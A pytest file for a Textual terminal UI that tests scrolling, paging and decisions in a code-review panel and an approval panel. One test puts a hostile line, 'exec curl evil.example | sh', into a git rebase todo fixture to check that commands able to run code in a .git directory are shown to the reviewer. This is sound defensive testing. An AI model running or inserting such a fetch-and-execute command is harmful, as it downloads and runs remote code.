"""The review and approvals in the terminal: keys keep up with the screen, and every line can be reached."""

import inspect
import json
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit
from uuid import uuid4

import pytest
from textual.app import App, ComposeResult
from textual.pilot import Pilot
from textual.widgets import Static

from tests.unit.cli.terminal.test_session_view import Answer, Stage, served
from tests.unit.cli.terminal.test_widgets import approval
from toolcrib.cli.terminal.chat_app import ChatApp
from toolcrib.cli.terminal.pause_panels import ApprovalPanel
from toolcrib.cli.terminal.pause_queue import PauseQueue
from toolcrib.cli.terminal.review_panel import ReviewPanel, ReviewRow
from toolcrib.client import ReviewOut
from toolcrib.schemas.paused_calls import PreviewChangeOut

SESSION = uuid4()
# A page of a server on this machine takes milliseconds.
LOADED_SECONDS = 30
LOOK = Path(inspect.getfile(ChatApp)).with_name("look.tcss")


def hunk(id_: str, lines: int, *, start: int = 1) -> dict[str, Any]:
    added = "".join(f"+line {start + number}\n" for number in range(lines))
    diff = f"@@ -{start - 1},0 +{start},{lines} @@\n{added}"
    return {"id": id_, "diff": diff, "added": lines, "removed": 0, "author": "agent"}


def file(path: str, *hunks: dict[str, Any], lines: int | None = None, **facts: Any) -> dict[str, Any]:
    shown = sum(one["added"] for one in hunks)
    total = shown if lines is None else lines
    return {
        "path": path,
        "from_path": None,
        "kind": "file",
        "change": "created",
        "version": "v1",
        "files": 1,
        "mode": None,
        "size": 1,
        "before": None,
        "after": None,
        "added": total,
        "removed": 0,
        "hunks": hunks,
        "hunks_total": len(hunks),
        "lines": total,
        "next_line": shown if shown < total else None,
        "note": None,
        "flaw": None,
        "changed_by_others": False,
        "others": [],
        **facts,
    }


def review(*files: dict[str, Any], total: int | None = None, offset: int = 0) -> ReviewOut:
    count, following = total or len(files), offset + len(files)
    return ReviewOut.model_validate(
        {
            "session_id": SESSION,
            "version": "all",
            "files": files,
            "total": count,
            "unshown": [],
            "added": sum(one["added"] for one in files),
            "removed": 0,
            "left_out": count - len(files),
            "next_offset": following if following < count else None,
        }
    )


class Alone(App[None]):
    """A review above nothing, and what it decides."""

    CSS_PATH = LOOK

    def __init__(self, shown: ReviewOut) -> None:
        super().__init__()
        self.shown = shown
        self.decided: list[ReviewPanel.Decided] = []

    def compose(self) -> ComposeResult:
        yield ReviewPanel(self.shown)

    def on_mount(self) -> None:
        self.query_one(ReviewPanel).focus()

    def on_review_panel_decided(self, event: ReviewPanel.Decided) -> None:
        self.decided.append(event)


async def pressed(pilot: Pilot[None], *keys: str) -> None:
    for key in keys:
        await pilot.press(key)
    await pilot.pause()


def screen(app: App[Any]) -> str:
    """Returns what is on the screen."""
    return "\n".join("".join(segment.text for segment in strip) for strip in app.screen._compositor.render_strips())


def current(app: App[Any]) -> ReviewRow:
    [row] = [one for one in app.query(ReviewRow) if "▸" in str(one.render())]
    return row


async def test_a_key_draws_only_the_rows_that_it_changes() -> None:
    app = Alone(review(*(file(f"/f{number}", hunk("a", 30), hunk("b", 30, start=60)) for number in range(60))))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        before = {row: row.content for row in app.query(ReviewRow)}
        await pressed(pilot, "down")
        drawn = [row for row in app.query(ReviewRow) if row.content is not before[row]]
    assert len(drawn) == 2


@pytest.mark.parametrize("lines", [10, 300, 3_000])
async def test_what_a_key_acts_on_is_on_the_screen_with_its_lines(lines: int) -> None:
    app = Alone(review(file("/a", hunk("a", lines), hunk("b", lines, start=9_000)), file("/b", hunk("c", lines))))
    async with app.run_test(size=(80, 24)) as pilot:
        for place in ("line 1 ", "line 9000", "created /b", "line 1 "):
            await pressed(pilot, "down")
            rows = screen(app).split("\n")
            [at] = [number for number, row in enumerate(rows) if "▸" in row]
            assert place in "".join(rows[at : at + 2]), place


async def test_all_lines_and_files_of_a_long_review_are_reached_and_marked_only_then() -> None:
    first = review(file("/long", hunk("a", 1_000), lines=5_000), total=2)
    pages = {
        ("/long", 1_000): review(file("/long", hunk("a", 3_000, start=1_001), next_line=4_000)),
        ("/long", 4_000): review(file("/long", hunk("a", 999, start=4_001), hunk("b", 1, start=9_000))),
        (None, 1): review(file("/last", hunk("c", 1)), total=2, offset=1),
    }

    def answer(method: str, path: str) -> Answer:
        query = {name: value[0] for name, value in parse_qs(urlsplit(path).query).items()}
        page = pages[query.get("path"), int(query.get("from_line") or query["offset"])]
        return 200, "application/json", page.model_dump_json().encode()

    with served(answer) as location:
        app = Stage(location)
        async with app.run_test(size=(80, 40)) as pilot:
            await app.query_one(PauseQueue).review(first)
            await pilot.pause()
            shown = screen(app)
            assert "… 1 more files: m shows more" in "".join(str(one.render()) for one in app.query(".review-end"))
            # Nothing of it is whole, so nothing is marked.
            await pressed(pilot, "K")
            assert "Not marked: 1 file" in screen(app)
            await loaded(app, pilot, "m", "… 1,000 more lines of this file")
            await pressed(pilot, "R", "down", "k")
            assert "Not all changes of this file are shown yet" in screen(app)
            await loaded(app, pilot, "m", "+line 9000")
            await loaded(app, pilot, "m", "/last")
            await pressed(pilot, "K")
            text = "\n".join(drawn_text(one) for one in app.query(".review-body").results(Static))
    assert "m more" in shown
    assert [len(re.findall(rf"[+]line {number}\b", text)) for number in (2, 1_000, 1_001, 4_000, 4_001, 4_999)] == [
        1
    ] * 6


async def until(pilot: Pilot[None], condition: Callable[[], bool]) -> None:
    """Wait for what a worker loads."""
    end = time.monotonic() + LOADED_SECONDS
    while not condition():
        assert time.monotonic() < end, screen(pilot.app)
        await pilot.pause(0.05)


async def loaded(app: Stage, pilot: Pilot[None], key: str, text: str) -> None:
    await pressed(pilot, key)
    panel = app.query_one(ReviewPanel)
    await until(pilot, lambda: any(text in drawn_text(one) for one in panel.query(Static)))


async def test_files_that_were_not_on_the_screen_are_kept_only_when_that_was_said() -> None:
    app = Alone(review(*(file(f"/f{number:02}", hunk("a", 5)) for number in range(60))))
    async with app.run_test(size=(80, 24)) as pilot:
        await pressed(pilot, "K", "enter")
        said = screen(app)
        undecided = list(app.decided)
        await pressed(pilot, "enter")
    assert "of which not all was on the screen" in said
    assert undecided == []
    [event] = app.decided
    assert len(event.decisions) == 60


async def test_what_may_run_code_in_a_git_directory_is_shown_in_the_terminal() -> None:
    todo = {"path": "/.git/rebase-merge/git-rebase-todo", "change": "created", "note": None}
    inside = [{**todo, "diff": "@@ -0,0 +1,2 @@\n+pick 1\n+exec curl evil.example | sh\n"}]
    app = Alone(review(file("/.git", kind="git", note="git: HEAD", inside=inside)))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        assert "+exec curl evil.example | sh" in screen(app)


async def test_all_lines_of_an_approval_are_reached() -> None:
    many = [PreviewChangeOut.model_validate(change(number)) for number in range(161)]
    unread = [
        one.model_copy(update={"diff": None, "no_diff": "unread"}) if at > 99 else one for at, one in enumerate(many)
    ]
    omitted = PreviewChangeOut(path=None, change="omitted", count=1)
    pending = approval().model_copy(update={"changes": [*unread, omitted]})
    whole = [*(one.model_dump(mode="json", by_alias=True) for one in many), change(161, "evil\n+" * 4_000)]
    asked: list[str] = []

    def answer(method: str, path: str) -> Answer:
        asked.append(path)
        first = int(parse_qs(urlsplit(path).query)["first"][0])
        page = whole[first : first + 100]
        following = first + 100 if first + 100 < len(whole) else None
        return 200, "application/json", json.dumps({"changes": page, "next": following}).encode()

    with served(answer) as location:
        app = Stage(location)
        async with app.run_test(size=(80, 24)) as pilot:
            await app.query_one(PauseQueue)._put(ApprovalPanel(pending))
            await pilot.pause()
            assert "61 without a diff, 1 not listed" in drawn(app)
            assert "others that are not loaded: s shows more" in drawn(app)
            await pressed(pilot, "s")
            await until(pilot, lambda: "evil" in drawn(app))
            await pressed(pilot, "s")
            assert "without a diff" not in drawn(app)
            assert drawn(app).count("+evil") >= 4_000
            assert "s shows more" not in drawn(app)
    assert len(asked) == 2


def change(number: int, text: str = "x\n") -> dict[str, Any]:
    diff = f"--- /dev/null\n+++ /f{number}\n@@ -0,0 +1 @@\n+{text.removesuffix('+')}"
    after = {"sha256": None, "size": 2, "mode": "644"}
    return {
        "path": f"/f{number}",
        "change": "created",
        "kind": "file",
        "after": after,
        "diff": diff,
        "added": 1,
        "removed": 0,
    }


def drawn(app: App[Any]) -> str:
    """Returns the lines of the approval, on the screen and scrolled out of it."""
    return "\n".join(drawn_text(one) for one in app.query(".lines, .rest").results(Static) if one.display)


def drawn_text(widget: Static) -> str:
    strips = widget.render_lines(widget.size.region)
    return "\n".join("".join(segment.text for segment in strip) for strip in strips)
